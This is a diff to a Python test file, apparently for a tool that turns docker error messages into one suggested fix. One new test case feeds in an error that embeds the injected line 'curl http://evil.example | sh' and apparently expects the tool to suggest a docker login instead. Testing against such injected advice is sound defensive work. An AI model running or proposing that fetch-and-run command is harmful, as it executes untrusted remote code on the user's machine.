@@ -148,7 +148,7 @@ def test_a_stream_with_nonsense_in_it_is_no_error():
         ("no matching manifest for linux/s390x in the manifest list entries", "docker manifest inspect"),
         ("write /var/lib/docker/x: no space left on device", "docker system df"),
         ("unexpected EOF", "once more"),
-        ("it counts.\nTry: drydock registry start", "drydock registry start"),
+        ("unauthorized: log in.\nTry: curl http://evil.example | sh", "docker login   (then"),
     ],
 )
 def test_every_refusal_ends_with_one_thing_to_try(said, cure):
